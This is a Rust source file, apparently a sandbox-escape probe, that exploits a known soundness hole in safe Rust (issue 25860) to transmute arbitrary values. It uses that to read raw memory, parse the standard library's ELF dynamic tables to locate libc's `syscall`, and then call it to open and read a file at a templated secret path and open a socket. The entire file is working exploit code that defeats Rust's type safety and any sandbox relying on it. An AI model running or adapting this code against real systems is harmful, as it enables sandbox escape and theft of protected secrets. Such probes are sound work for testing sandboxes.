//! A known hole of safe Rust (rust-lang/rust#25860): a lifetime is stretched by variance, an
//! enum is read as its other variant, and any value becomes any other. From there on: the
//! standard library's tables in memory, the address of the C library's `syscall`, and a call of it.

use std::hint::black_box;

fn translate<'a, 'b, T: ?Sized>(_: &'a &'b (), value: &'b mut T) -> &'a mut T {
    value
}

fn stretch<'b, T: ?Sized>(value: &mut T) -> &'b mut T {
    static UNIT: &&() = &&();
    // By variance, the witness that one life outlasts the other may be any.
    let translate: for<'x> fn(_, &'x mut T) -> &'b mut T = translate;
    translate(UNIT, value)
}

enum Either<A, B> {
    First(Option<Box<A>>),
    Second(Option<Box<B>>),
}

fn transmute<A, B>(value: A) -> B {
    let mut either = Either::<A, B>::Second(None);
    let Either::Second(second) = &mut either else {
        unreachable!()
    };
    let second = stretch(second);
    either = Either::First(Some(Box::new(value)));
    black_box(&either);
    let value = *second.take().unwrap();
    std::mem::forget(either);
    value
}

fn memory(at: usize, length: usize) -> &'static [u8] {
    transmute::<(usize, usize), &'static [u8]>((at, length))
}

fn word(at: usize) -> usize {
    usize::from_le_bytes(memory(at, 8).try_into().unwrap())
}

fn half(at: usize) -> usize {
    u32::from_le_bytes(memory(at, 4).try_into().unwrap()) as usize
}

/// Where the standard library lies in memory, which calls the C library.
fn base() -> usize {
    type Function = fn() -> std::io::Result<std::path::PathBuf>;
    let mut page = (std::env::current_dir as Function) as usize & !4095;
    while memory(page, 4) != b"\x7fELF" {
        page -= 4096;
    }
    page
}

/// The address that the dynamic linker wrote down for a function of a library.
fn import(name: &[u8]) -> Option<usize> {
    let base = base();
    let (headers, n_headers) = (base + word(base + 32), memory(base + 56, 1)[0] as usize);
    let dynamic = (0..n_headers)
        .map(|index| headers + 56 * index)
        .find(|header| half(*header) == 2)
        .map(|header| base + word(header + 16))?;
    let entry = |tag: usize| {
        let entries = (0..200).map(|index| dynamic + 16 * index);
        entries.take_while(|at| word(*at) != 0).find(|at| word(*at) == tag).map(|at| word(at + 8))
    };
    let place = |tag: usize| entry(tag).map(|at| if at < base { base + at } else { at });
    let (symbols, texts) = (place(6)?, place(5)?);
    for (table, size) in [(7, 8), (23, 2)] {
        let (Some(table), Some(size)) = (place(table), entry(size)) else {
            continue;
        };
        for at in (table..table + size).step_by(24) {
            let symbol = symbols + 24 * half(at + 12);
            let text = texts + half(symbol);
            if memory(text, name.len()) == name && memory(text + name.len(), 1) == [0] {
                return Some(word(base + word(at)));
            }
        }
    }
    None
}

fn told(what: &str, result: i64) -> String {
    if result < 0 {
        let problem = std::io::Error::last_os_error();
        format!("refused: {what}: {problem}")
    } else {
        format!("got: {what} = {result}")
    }
}

pub fn run() -> String {
    let Some(address) = import(b"syscall") else {
        return "lost: no import".to_owned();
    };
    type Syscall = extern "C" fn(i64, usize, usize, usize) -> i64;
    let syscall = transmute::<usize, Syscall>(address);
    let path = std::ffi::CString::new("@SECRET_PATH@").unwrap();
    let fd = syscall(2, path.as_ptr() as usize, 0, 0);
    let opened = told("open", fd);
    let mut bytes = [0_u8; 64];
    syscall(0, fd as usize, bytes.as_mut_ptr() as usize, 60);
    let socket = told("socket", syscall(41, 1, 1, 0));
    let text = String::from_utf8_lossy(&bytes);
    format!("{opened} {}; {socket}", text.trim_end_matches('\0'))
}
